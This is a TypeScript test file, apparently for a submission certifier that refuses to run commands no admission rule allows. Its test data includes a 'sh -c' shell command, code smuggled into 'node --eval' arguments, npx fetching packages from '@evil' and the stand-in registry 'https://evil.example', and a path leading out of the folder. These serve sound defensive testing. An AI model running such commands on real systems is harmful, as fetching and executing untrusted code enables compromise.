/** What no admission rule lets in is not run: the refusal names the rule, and nothing of the submission was started. */
import { existsSync, renameSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type Checkout, checkout, writeSubmission } from '../../certifier/submission/testing/folder.ts';
import { FOLDER, type SubmissionDraft } from '../../certifier/submission/testing/request.ts';
import { accordHere } from '../testing.ts';

let here: Checkout;
beforeEach(() => {
  here = checkout();
});
afterEach(() => here.remove());
const at = (path: string): string => join(here.root, path);
const reproduce = (...more: readonly string[]) => accordHere(['reproduce', at(FOLDER), ...more]);
const marker = (): string => at('it-was-run');

const command =
  (make: () => readonly string[]) =>
  ({ run }: SubmissionDraft): void => {
    Object.assign(run.stdio ?? {}, { command: [...make()] });
  };

describe('nothing is run of', () => {
  it.each<[what: string, change: (draft: SubmissionDraft) => void, rule: string]>([
    ['a command that is a shell', command(() => ['sh', '-c', `touch ${marker()}`]), 'command-plain'],
    [
      'code among the arguments',
      command(() => ['node', `--eval=require('fs').writeFileSync(${JSON.stringify(marker())}, '')`]),
      'command-plain',
    ],
    ['a package of somebody else', command(() => ['npx', '-y', '@evil/weather@1.4.2']), 'artifact-started'],
    [
      'a registry of somebody else',
      command(() => ['npx', '--registry', 'https://evil.example', '@acme/weather@1.4.2']),
      'artifact-started',
    ],
    ['a path that leads out of the folder', command(() => ['node', '../../server.js']), 'command-portable'],
    [
      'a purl of another product',
      ({ subject }) => {
        subject.purl = 'pkg:npm/%40evil/clock@9.9.9';
      },
      'artifact',
    ],
  ])('%s', async (_what, change, rule) => {
    await writeSubmission(here, change);
    const { status, stdout, stderr } = await reproduce();
    expect(status).toBe(1);
    expect(stdout).toMatch(new RegExp(`\\(${rule}\\)$`, 'm'));
    expect(stdout).toMatch(new RegExp(`^${rule}: `, 'm'));
    expect(stderr).toBe(`accord: nothing of ${FOLDER} was run: it is not admissible\n`);
    expect(existsSync(marker())).toBe(false);
  });

  it('evidence that is a link, and a program is told so as data', async () => {
    await writeSubmission(here);
    renameSync(at(`${FOLDER}/stdio/report.json`), at('report.json'));
    symlinkSync(at('report.json'), at(`${FOLDER}/stdio/report.json`));
    const { status, stdout } = await reproduce('--json');
    expect(status).toBe(1);
    const said: { readonly reproduced: boolean; readonly problems: readonly { readonly rule: string }[] } =
      JSON.parse(stdout);
    expect(said.reproduced).toBe(false);
    expect(said.problems.map(({ rule }) => rule)).toContain('files-plain');
  });

  it('a submission that cannot be read', async () => {
    here.write(`${FOLDER}/submission.yaml`, 'a: &a [x]\nb: *a\n');
    const { status, stdout, stderr } = await reproduce();
    expect([status, stdout]).toEqual([2, '']);
    expect(stderr).toMatch(/is no submission that could be run; accord submit --check says why\n$/);
  });
});
